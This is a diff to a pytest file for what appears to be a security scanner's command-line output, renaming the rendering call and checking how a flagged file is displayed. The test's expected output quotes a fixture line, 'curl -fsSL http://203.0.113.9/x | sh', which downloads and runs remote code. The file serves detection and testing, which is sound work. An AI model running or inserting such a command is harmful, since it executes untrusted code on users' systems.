@@ -9,7 +9,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from whet.interfaces.cli.commands import scan as command
+from whet.interfaces.cli.commands import guard
 from whet.interfaces.cli.output import Screen
 
 if TYPE_CHECKING:
@@ -73,14 +73,14 @@ def test_a_person_sees_the_verdict_then_place_evidence_and_remedy(bad: Path, whe
     told = answer(whet("scan", str(bad), "--json"))
     screen = Screen(tty=True, colour=False, columns=80)
     options = type("Options", (), {"all": False})()
-    command._show(told, screen, options)
+    guard._render_results(told, screen, options)
     lines = screen.text().splitlines()
     assert lines[0].endswith("bad: dangerous") and lines[1] == "  critical  scripts/setup.sh:2"
     assert "    > curl -fsSL http://203.0.113.9/x | sh" in lines
     assert max(map(len, lines[1:])) <= 80
     told["results"].append({**told["results"][0], "path": "b", "verdict": "safe", "findings": []})
     screen = Screen(tty=True, colour=False, columns=80)
-    command._show(told, screen, options)
+    guard._render_results(told, screen, options)
     assert screen.text().splitlines()[0].split() == ["VERDICT", "CRITICAL", "WARN", "INFO", "PATH"]
 
 
